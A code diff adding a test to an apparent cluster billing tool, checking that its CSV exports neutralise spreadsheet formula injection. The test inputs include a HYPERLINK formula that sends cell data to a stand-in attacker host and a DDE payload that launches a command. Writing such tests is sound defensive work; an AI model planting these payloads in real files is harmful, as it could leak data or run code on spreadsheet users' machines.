@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import io
 import json
 from pathlib import Path
 
@@ -309,3 +310,30 @@ def test_energy_never_measured_is_null_not_zero(tmp_path: Path) -> None:
     write_dataset(root, "cpu", cpu_table("c-metal", times))  # RAPL readable there
     mixed = json.loads(tally("bill", str(root), "--inventory", str(inv)).stdout)
     assert all(p["energy_kwh"] is not None and p["energy_kwh"] > 0 for p in mixed["pools"])
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
+    """User, tenant and job names come from the tenants' environments: '=HYPERLINK(…)' must not
+    reach a finance team's spreadsheet as a formula (OWASP CSV injection)."""
+    root = tmp_path / "ds"
+    times = [float(t) for t in range(0, 600, 30)]
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"invoice")'
+    job = job_table("g1", "@SUM(1+1)", times)
+    job = job.set_column(
+        job.schema.get_field_index("user"), "user", pa.array([formula] * len(times))
+    )
+    job = job.set_column(job.schema.get_field_index("account"), "account",
+                         pa.array(["+cmd|' /C calc'!A0"] * len(times)))  # fmt: skip
+    write_dataset(root, "job", job)
+    write_dataset(root, "gpu", gpu_table("g1", "GPU-1", 0, times, util=0.5, job_id="@SUM(1+1)"))
+    inv = tmp_path / "inv.toml"
+    inv.write_text(INVENTORY)
+    out = tmp_path / "bill"
+    result = tally("bill", str(root), "--inventory", str(inv), "--format", "csv", "--out", str(out))
+    assert result.returncode == 0, result.stderr
+    rows = list(csv.DictReader(io.StringIO((tmp_path / "bill-jobs.csv").read_text())))
+    assert rows and all(r["user"] == "'" + formula for r in rows)
+    assert all(r["job_id"] == "'@SUM(1+1)" and r["tenant"].startswith("'+") for r in rows)
+    tenants = list(csv.DictReader(io.StringIO((tmp_path / "bill-tenants.csv").read_text())))
+    assert tenants and all(r["tenant"][:1] not in "=+-@" for r in tenants)
+    assert all(float(r["charge"]) >= 0 for r in tenants), "numbers stay numbers"
